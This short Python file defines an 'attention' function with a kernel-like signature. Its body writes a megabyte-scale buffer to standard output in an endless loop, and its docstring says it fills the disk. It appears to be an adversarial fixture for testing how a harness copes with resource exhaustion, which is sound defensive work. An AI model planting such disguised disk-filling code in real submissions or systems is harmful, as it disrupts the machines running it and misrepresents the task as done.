"""Fills the disk with what it prints."""

import os

LINE = b"attention " * (1 << 17)


def attention(q, k, v, out, *, scale):
    while True:
        os.write(1, LINE)
